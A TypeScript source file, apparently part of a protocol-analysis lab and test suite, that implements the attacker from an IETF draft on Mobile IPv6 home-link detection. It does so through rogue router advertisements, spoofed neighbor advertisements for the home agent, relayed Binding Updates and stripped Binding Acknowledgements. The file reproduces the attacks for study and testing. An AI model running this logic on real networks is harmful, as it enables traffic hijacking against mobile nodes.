/**
 * The attacker of draft-ebalard-mext-hld-security-00 sections 4 and 5: what it does on a link, whatever the link is made of.
 * Part of the lab and of tests; nothing here opens an interface.
 */
import { isSameAddress } from '../../dissectors/core/address.ts';
import { equalBytes, u8 } from '../../dissectors/core/bytes.ts';
import { DiagnosticList } from '../../dissectors/core/diagnostic.ts';
import {
  NEIGHBOR_ADVERTISEMENT_FLAGS,
  ROUTER_ADVERTISEMENT_FLAGS,
  decodeIcmpv6,
} from '../../dissectors/icmpv6/index.ts';
import type { NdOption } from '../../dissectors/icmpv6/index.ts';
import { destinationOptions, homeAddressOption, ipv6Packet } from '../../dissectors/ipv6/build.ts';
import { NEXT_HEADER } from '../../dissectors/ipv6/header.ts';
import type { LinkPort, ScheduledAction, Scheduler } from '../../engine/ports.ts';
import { frameOf } from '../../nodes/interface/ethernet-frame.ts';
import {
  ALL_NODES,
  groupLinkAddress,
  interfaceIdentifierOf,
  linkLocalOf,
} from '../../nodes/interface/link-address.ts';
import { discoveryPacket } from '../../nodes/interface/neighbor-discovery.ts';
import { prefixInformation } from '../../nodes/interface/router-advertisement.ts';
import { packetOf, upperLayerOf } from './frame-kind.ts';
import type { FrameKind } from './frame-kind.ts';

/** The attacks, each a part of the next but one. */
export const ATTACKS = ['rogue-ra', 'partial-deregistration', 'relay'] as const;
export type AttackName = (typeof ATTACKS)[number];

/** Milliseconds between two false advertisements. */
const ADVERTISE_EVERY = 500;
const ROUTER_LIFETIME = 1800;
const ETHERNET = 14;
const SOURCE = 8;

/** What an attacker is and knows. Addresses are 16 octets, link-layer addresses 6. */
export interface AttackerOptions {
  readonly attack: AttackName;
  readonly port: LinkPort;
  readonly scheduler: Scheduler;
  /** Its own on the link, by which answers reach it. */
  readonly address: Uint8Array;
  readonly homeAgent: Uint8Array;
  readonly homeAddress: Uint8Array;
  /** Link-layer addresses of the victim and of the router of the link. */
  readonly mobile: Uint8Array;
  readonly router: Uint8Array;
  /** What a frame is; under ESP only its SPI tells. */
  readonly kindOf: (frame: Uint8Array) => FrameKind;
  /** Told once for each thing that was done. */
  readonly onDone?: (what: string) => void;
}

/** Attacks from its making until it is closed. */
export class Attacker {
  readonly #options: AttackerOptions;
  readonly #own: Uint8Array;
  readonly #linkLocal: Uint8Array;
  readonly #told = new Set<string>();
  #next: ScheduledAction | undefined;

  constructor(options: AttackerOptions) {
    this.#options = options;
    this.#own = options.port.linkLayerAddress;
    this.#linkLocal = linkLocalOf(interfaceIdentifierOf(this.#own));
    options.port.onFrame = (frame) => {
      this.#heard(frame);
    };
    this.#advertise();
  }

  /** Ends it; the port stays open. */
  close(): void {
    this.#next?.cancel();
    this.#next = undefined;
    this.#options.port.onFrame = undefined;
  }

  /** Section 5.2: the home prefix, with the address of the home agent. */
  #advertise(): void {
    const { scheduler, homeAgent } = this.#options;
    this.#next = scheduler.after(ADVERTISE_EVERY, () => {
      this.#advertise();
    });
    const options: NdOption[] = [
      { kind: 'source-link-layer-address', address: this.#own },
      prefixInformation({
        address: homeAgent,
        prefixLength: 64,
        isOnLink: true,
        isAutonomous: true,
        isRouterAddress: true,
        preferredLifetime: ROUTER_LIFETIME,
        validLifetime: ROUTER_LIFETIME,
      }),
    ];
    const advertisement = discoveryPacket(
      {
        kind: 'router-advertisement',
        code: 0,
        currentHopLimit: 64,
        flags: ROUTER_ADVERTISEMENT_FLAGS.homeAgent.mask,
        routerLifetime: ROUTER_LIFETIME,
        reachableTime: 0,
        retransTimer: 0,
        options,
      },
      this.#linkLocal,
      ALL_NODES,
    );
    this.#send(groupLinkAddress(ALL_NODES), advertisement);
    this.#tell('advertised the home prefix');
  }

  #heard(frame: Uint8Array): void {
    const upper = upperLayerOf(frame);
    if (upper === undefined) return;
    const packet = packetOf(frame);
    const source = packet.slice(SOURCE, SOURCE + 16);
    if (upper.protocol === NEXT_HEADER.icmpv6) {
      this.#answer(packet, upper.offset - ETHERNET, source, frame.slice(6, 12));
      return;
    }
    const { attack, homeAddress, kindOf } = this.#options;
    if (attack === 'rogue-ra') return;
    const kind = kindOf(frame);
    const isToAttacker = equalBytes(frame, 0, this.#own, 0, 6);
    const esp = packet.slice(upper.offset - ETHERNET);
    if (kind === 'binding-update' && isToAttacker && isSameAddress(source, homeAddress)) {
      this.#relay(esp);
    } else if (kind === 'binding-acknowledgement' && attack === 'relay' && upper.isMobile) {
      this.#strip(esp);
    }
  }

  /** Section 5.3: a Home Address option is inserted, and the source is an address that gets answers. */
  #relay(esp: Uint8Array): void {
    const { address, homeAddress, homeAgent, router } = this.#options;
    const headers = [destinationOptions([homeAddressOption(homeAddress)])];
    const relayed = ipv6Packet({
      source: address,
      destination: homeAgent,
      headers,
      protocol: NEXT_HEADER.esp,
      payload: esp,
    });
    this.#send(router, relayed);
    this.#tell('relayed the Binding Update with a Home Address option');
  }

  /** Section 5.3: without its routing header it is what a node at home expects. */
  #strip(esp: Uint8Array): void {
    const { homeAddress, homeAgent, mobile } = this.#options;
    const stripped = ipv6Packet({
      source: homeAgent,
      destination: homeAddress,
      protocol: NEXT_HEADER.esp,
      payload: esp,
    });
    this.#send(mobile, stripped);
    this.#tell('passed the Binding Acknowledgement on without its routing header');
  }

  /** Whoever asks for the attacker, or for the home agent on this link, gets the attacker. */
  #answer(packet: Uint8Array, offset: number, source: Uint8Array, asker: Uint8Array): void {
    const message = decodeIcmpv6(packet, offset, packet.length, new DiagnosticList());
    if (message?.kind !== 'neighbor-solicitation' || u8(source, 0) === 0) return;
    const target = message.targetAddress;
    const own = [this.#linkLocal, this.#options.address, this.#options.homeAgent];
    if (!own.some((each) => isSameAddress(each, target))) return;
    const { router, solicited, override } = NEIGHBOR_ADVERTISEMENT_FLAGS;
    const advertisement = discoveryPacket(
      {
        kind: 'neighbor-advertisement',
        code: 0,
        flags: (router.mask | solicited.mask | override.mask) >>> 0,
        targetAddress: target,
        options: [{ kind: 'target-link-layer-address', address: this.#own }],
      },
      target,
      source,
    );
    this.#send(asker, advertisement);
  }

  #send(to: Uint8Array, packet: Uint8Array): void {
    this.#options.port.send(frameOf(to, this.#own, packet));
  }

  #tell(what: string): void {
    if (this.#told.has(what)) return;
    this.#told.add(what);
    this.#options.onDone?.(what);
  }
}
